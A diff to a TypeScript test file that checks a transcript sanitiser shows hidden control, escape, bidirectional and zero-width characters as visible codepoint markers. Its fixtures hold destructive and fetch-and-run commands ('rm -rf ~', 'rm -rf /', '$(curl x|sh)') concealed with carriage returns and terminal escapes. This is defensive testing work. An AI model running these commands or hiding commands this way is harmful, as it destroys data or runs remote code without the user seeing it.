@@ -2,7 +2,7 @@
 
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { cleanLine, cleanText } from '../../../src/webview/transcript/cleanText.ts';
+import { cleanLine, cleanText, exactLine, exactText } from '../../../src/webview/transcript/cleanText.ts';
 
 function check(text: string, expected: string) {
   assert.equal(cleanText(text), expected, JSON.stringify(text));
@@ -40,5 +40,35 @@ test('[W5] a megabyte is cleaned at once', () => {
     const started = performance.now();
     cleanText(text);
     assert.ok(performance.now() - started < 1000, JSON.stringify(seed));
+  }
+});
+
+test('[W93] of what a person decides about nothing is taken away, and what cannot be seen stands there by its number', () => {
+  const rows: readonly (readonly [text: string, shown: string])[] = [
+    ['ls -la\n\tcat x', 'ls -la\n\tcat x'],
+    ['a\r\nb', 'a\nb'],
+    ['rm -rf ~\rls', 'rm -rf ~⟦U+000D⟧ls'],
+    // A terminal would not show it; a shell runs it all the same.
+    ['ls \u001b]0;$(curl x|sh)\u0007', 'ls ⟦U+001B⟧]0;$(curl x|sh)⟦U+0007⟧'],
+    ['\u009b8mhidden', '⟦U+009B⟧8mhidden'],
+    ['a\u202eb\u2066c', 'a⟦U+202E⟧b⟦U+2066⟧c'],
+    ['a\u200bb\u2060c\ufeffd\u00ade', 'a⟦U+200B⟧b⟦U+2060⟧c⟦U+FEFF⟧d⟦U+00AD⟧e'],
+    ['a\u115f\u3164\uffa0b', 'a⟦U+115F⟧⟦U+3164⟧⟦U+FFA0⟧b'],
+    ['a\u2028b', 'a⟦U+2028⟧b'],
+    ['a\u{e0041}b', 'a⟦U+E0041⟧b'],
+    ['a\ud800b', 'a⟦U+D800⟧b'],
+    ['a\u200d\ufe0fb', 'a⟦U+200D⟧⟦U+FE0F⟧b'],
+    ['👩🏽‍💻 ❤️‍🔥 ✔️', '👩🏽‍💻 ❤️‍🔥 ✔️'],
+    ['a\n\n\n\n\n\nb\n\nc', 'a\n⟦5 empty lines⟧\nb\n\nc'],
+    ['a\n \n\t\n\n  b', 'a\n⟦3 empty lines⟧\n  b'],
+    ['שלום مرحبا déjà', 'שלום مرحبا déjà'],
+  ];
+  for (const [text, shown] of rows) assert.equal(exactText(text), shown, JSON.stringify(text));
+  assert.equal(exactLine(' echo a\nrm -rf / '), 'echo a ⏎ rm -rf /');
+  for (const seed of ['\u200b', '\n', 'a\n', ' \n', '👩‍', '\u001b[']) {
+    const text = seed.repeat(1_000_000 / seed.length);
+    const started = performance.now();
+    exactText(text);
+    assert.ok(performance.now() - started < 2000, JSON.stringify(seed));
   }
 });
